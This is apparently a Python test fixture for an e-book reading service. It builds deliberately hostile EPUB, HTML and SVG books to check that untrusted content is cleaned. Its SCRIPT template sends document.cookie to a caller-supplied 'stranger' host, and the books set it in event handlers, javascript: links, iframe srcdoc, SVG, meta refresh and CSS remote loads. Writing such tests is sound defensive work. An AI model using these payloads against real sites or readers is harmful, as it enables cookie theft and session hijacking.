"""Books made to harm: what they try, as an EPUB, as HTML, and as a reading copy that nobody cleaned.

    python -m tests.journeys.hostile http://127.0.0.1:9999

puts two uncleaned works into the installation of DENSACH_HOME and prints their names in addresses
and the token of the second one's copy: one flows, one has fixed pages. The address is a stranger's.
"""

import sys
import zipfile
from pathlib import Path

SCRIPT = (
    "window.ran=(window.ran||[]).concat('%(name)s');document.title='ran';"
    "new Image().src='%(stranger)s/%(name)s?'+encodeURIComponent(document.cookie);"
    "fetch('%(stranger)s/%(name)s-fetch')"
)
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90"
 height="90" onload="{svg_onload}"><script>{svg_script}</script>
<image xlink:href="{stranger}/svg-image.png" width="9" height="9"/>
<a xlink:href="javascript:{svg_link}"><text y="20">svg</text></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{svg_foreign}"/></body>
</foreignObject><rect width="9" height="9"/></svg>"""
BODY = """<p id="mo-dau">Sách độc mở đầu.</p>
<script>{inline}</script><script src="r/evil.js"></script><script src="{stranger}/script.js"></script>
<img src="x" onerror="{onerror}" alt="x"/><p onclick="{onclick}" onmouseover="{onclick}">chạm</p>
<a href="javascript:{link}" class="js-link">liên kết độc</a>
<a href="{stranger}/ping-page" ping="{stranger}/ping">ping</a>
<object data="{stranger}/object.swf" type="application/x-shockwave-flash"></object>
<embed src="{stranger}/embed.swf"/>
<iframe src="{stranger}/iframe.html"></iframe>
<iframe srcdoc="&lt;script&gt;parent.ran=(parent.ran||[]).concat('srcdoc');{srcdoc}&lt;/script&gt;"></iframe>
<form action="{stranger}/form" method="post"><input name="w" autofocus="" onfocus="{onfocus}"/>
<button class="js-send">gửi</button></form>
<img src="{stranger}/image.png" srcset="{stranger}/image2.png 2x" alt="y"/>
<video src="{stranger}/film.mp4" poster="{stranger}/poster.jpg" autoplay=""></video>
<audio src="{stranger}/sound.mp3" autoplay=""></audio>
<link rel="stylesheet" href="{stranger}/sheet.css"/><link rel="prefetch" href="{stranger}/prefetch"/>
<style>@import url({stranger}/import.css);@font-face{{font-family:x;src:url({stranger}/font.woff2)}}
p{{font-family:x;background:url({stranger}/background.png)}}</style>
<p style="background:url({stranger}/style.png)">nền</p>
<details open="" ontoggle="{toggle}"><summary>a</summary></details>
<base href="{stranger}/"/>
<p>Hết chương độc.</p>"""
REFRESH = '<meta http-equiv="refresh" content="0;url={stranger}/refresh"/>'
CSS = """@import url({stranger}/book-import.css);
@font-face{{font-family:y;src:url({stranger}/book-font.woff2)}}
.book p{{font-family:y;background:url({stranger}/book-background.png)}}"""
NAMES = (
    "inline", "onerror", "onclick", "link", "srcdoc", "onfocus", "toggle", "svg_onload",
    "svg_script", "svg_link", "svg_foreign",
)  # fmt: skip


def filled(text: str, stranger: str) -> str:
    """`text` with a script under each name and the stranger's address."""
    scripts = {name: SCRIPT % {"name": name, "stranger": stranger} for name in NAMES}
    return text.format(stranger=stranger, **scripts)


def svg(stranger: str) -> str:
    """A drawing that tries all that a drawing can."""
    return filled(SVG, stranger)


def body(stranger: str, *, with_refresh: bool = False) -> str:
    """A chapter that tries all that a page can; `meta refresh` only where it is asked for."""
    return filled(BODY + SVG + (REFRESH if with_refresh else ""), stranger)


def page(stranger: str) -> str:
    """`body` as a whole document."""
    head = f"<head><title>Độc</title>{filled(REFRESH, stranger)}</head>"
    return f'<!doctype html><html onload="{filled("{inline}", stranger)}">{head}<body>{body(stranger)}</body></html>'


def epub(path: Path, stranger: str) -> Path:
    """The same in an EPUB, as a program that knows no better would make it."""
    opf = """<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">urn:x:doc</dc:identifier>
<dc:title>Sách độc nhập vào</dc:title><dc:language>vi</dc:language></metadata><manifest>
<item id="n" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted svg"/>
<item id="b" href="b.svg" media-type="image/svg+xml"/><item id="c" href="r/evil.js" media-type="text/javascript"/>
<item id="d" href="book.css" media-type="text/css"/></manifest>
<spine><itemref idref="a"/><itemref idref="b"/></spine></package>"""
    chapter = body(stranger, with_refresh=True).replace("&lt;", "&amp;lt;")
    html = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Độc</title>{}</head><body>{}</body></html>'
    sheet = '<link rel="stylesheet" href="book.css"/>'
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr(
            "META-INF/container.xml",
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
            '<rootfile full-path="o.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        )
        book.writestr("o.opf", opf)
        nav = '<nav epub:type="toc" xmlns:epub="http://www.idpf.org/2007/ops"><ol><li><a href="a.xhtml">Độc</a></li></ol></nav>'
        book.writestr("nav.xhtml", html.format("", nav))
        book.writestr("a.xhtml", html.format(sheet, chapter))
        book.writestr("b.svg", svg(stranger))
        book.writestr("r/evil.js", filled("{inline}", stranger))
        book.writestr("book.css", filled(CSS, stranger))
    return path


def _uncleaned(stranger: str) -> None:
    """Two works whose reading copies hold the attacks as they are."""
    import django

    django.setup()
    from tests.factories import WorkFactory
    from tests.reading import books

    WorkFactory.reset_sequence(10_000)  # other programs put works into the same installation
    wicked = [
        ("Độc", body(stranger, with_refresh=True)),
        ("Độc nữa", "<p>Trang hai</p>" + body(stranger)),
    ]
    flows = books.book(
        wicked, css=filled(CSS, stranger), title="Độc chảy", slug="doc-chay", number=6_000_001
    )
    fixed = books.book(
        [("Độc", page(stranger))] * 2, layout="fixed", title="Độc cố định", slug="doc-co-dinh", number=6_000_002,
        more=[(svg(stranger).encode(), "svg"), (page(stranger).encode(), "html")],
    )  # fmt: skip
    token = fixed.editions.get().files.get(purpose="READING").token
    print(flows.slug, fixed.slug, token)


if __name__ == "__main__":
    _uncleaned(sys.argv[1])
